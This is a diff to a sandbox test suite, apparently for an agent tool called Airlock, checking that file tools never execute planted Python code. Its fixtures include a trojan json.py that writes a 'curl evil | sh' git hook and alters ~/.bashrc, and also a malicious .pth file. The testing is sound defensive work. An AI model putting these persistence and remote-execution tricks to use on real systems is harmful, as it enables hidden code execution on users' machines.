@@ -9,6 +9,7 @@ import { requireDocker } from "@/test/helpers/docker";
 import { listFiles, OutOfWorkspaceError, readFile, realpathInWorkspace, SandboxFileError, searchFiles, statPath, writeFile } from "./files";
 import { DEFAULT_LIMITS, dockerRuntime } from "./runtime";
 import { prepareWorkspace } from "./workspace";
+import { AGENT_UID } from "./agent-user";
 
 // Without an engine and image these suites fail, saying how to fix it.
 const image = await requireDocker();
@@ -61,7 +62,7 @@ describe("workspace files inside the sandbox", () => {
     const written = await writeFile(runtime, containerId, "bin/blob.dat", bytes);
     expect(written).toEqual({ path: "/workspace/bin/blob.dat", bytes: bytes.length, created: true });
     expect(fs.readFileSync(path.join(workspaceDir, "bin/blob.dat")).equals(bytes)).toBe(true);
-    expect(fs.statSync(path.join(workspaceDir, "bin/blob.dat")).uid).toBe(1000);
+    expect(fs.statSync(path.join(workspaceDir, "bin/blob.dat")).uid).toBe(AGENT_UID);
 
     const read = await readFile(runtime, containerId, "/workspace/bin/blob.dat", { encoding: "base64" });
     expect(read).toMatchObject({ exists: true, binary: true, size: bytes.length, bytesRead: bytes.length, eof: true, encoding: "base64" });
@@ -175,5 +176,69 @@ describe("workspace files inside the sandbox", () => {
     expect(capped.matches).toHaveLength(10);
     expect(capped.truncated).toBe(true);
     await expect(searchFiles(runtime, containerId, "(unclosed", "src")).rejects.toMatchObject({ code: "INVALID_INPUT" });
+  });
+});
+
+describe("Airlock's file tools never run the agent's code", () => {
+  beforeAll(async () => {
+    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "airlock-files-m1-"));
+    const runId = `m${randomBytes(4).toString("hex")}`;
+    workspaceDir = await prepareWorkspace(dataDir, runId);
+    ({ containerId } = await runtime.createSandbox({ runId, image, workspaceDir, limits: { ...DEFAULT_LIMITS, memoryMb: 256 } }));
+  });
+  afterAll(async () => {
+    if (containerId) await runtime.removeSandbox(containerId);
+    if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
+  });
+
+  // What the outside test planted: a module that shadows the standard
+  // library's json and writes where the policy denies the agent to write.
+  const TROJAN = [
+    "import os",
+    "os.makedirs('/workspace/.git/hooks', exist_ok=True)",
+    "open('/workspace/.git/hooks/pre-commit', 'a').write('curl evil | sh\\n')",
+    "open(os.path.expanduser('~/.bashrc'), 'a').write('echo pwned\\n')",
+    "open('/tmp/trojan-ran', 'a').write('json.py\\n')",
+  ].join("\n");
+
+  const ran = async () => (await sh("cat /tmp/trojan-ran 2>/dev/null; test -e /workspace/.git/hooks/pre-commit && echo hook; grep -q pwned ~/.bashrc 2>/dev/null && echo bashrc; true")).stdout;
+
+  it("M1: a json.py in /workspace does not run on read_file, list_files, search or a write preview", async () => {
+    fs.writeFileSync(path.join(workspaceDir, "json.py"), `${TROJAN}\n`);
+    fs.writeFileSync(path.join(workspaceDir, "notes.txt"), "hello\n");
+    // The trap is armed: the agent's own python in /workspace does run it.
+    expect((await sh("python3 -c 'import json' && cat /tmp/trojan-ran")).stdout).toBe("json.py\n");
+    await sh("rm -rf /tmp/trojan-ran /workspace/.git ~/.bashrc");
+    expect(await ran()).toBe("");
+
+    expect((await listFiles(runtime, containerId)).entries.map((e) => e.path)).toContain("/workspace/json.py");
+    expect((await readFile(runtime, containerId, "notes.txt")).content).toBe("hello\n");
+    // A write preview reads the current file, or learns that it does not exist.
+    expect(await readFile(runtime, containerId, "new-file.txt")).toMatchObject({ exists: false });
+    expect(await statPath(runtime, containerId, "notes.txt")).toMatchObject({ exists: true, type: "file" });
+    expect((await searchFiles(runtime, containerId, "hello")).matches).toHaveLength(1);
+    await writeFile(runtime, containerId, "written.txt", "ok\n");
+
+    expect(await ran()).toBe("");
+    expect(fs.existsSync(path.join(workspaceDir, ".git/hooks/pre-commit"))).toBe(false);
+  });
+
+  it("M1: a .pth file in the agent's user site does not run in the file tools", async () => {
+    const site = await sh("python3 -c 'import site; print(site.getusersitepackages())'");
+    const userSite = site.stdout.trim();
+    expect(userSite).toMatch(/^\/home\/agent\/\.local\/lib\/python3\.\d+\/site-packages$/);
+    const pth = `import os; open('/tmp/trojan-ran', 'a').write('pth\\n')`;
+    expect((await sh(`mkdir -p ${userSite} && printf '%s\\n' "${pth}" > ${userSite}/airlock-trojan.pth`)).exitCode).toBe(0);
+    await sh("rm -f /tmp/trojan-ran");
+    // Armed: any ordinary python of the agent's runs it.
+    await sh("cd / && python3 -c pass");
+    expect(await ran()).toBe("pth\n");
+    await sh("rm -f /tmp/trojan-ran");
+
+    await listFiles(runtime, containerId);
+    await readFile(runtime, containerId, "missing.txt");
+    await writeFile(runtime, containerId, "written-2.txt", "ok\n");
+
+    expect(await ran()).toBe("");
   });
 });
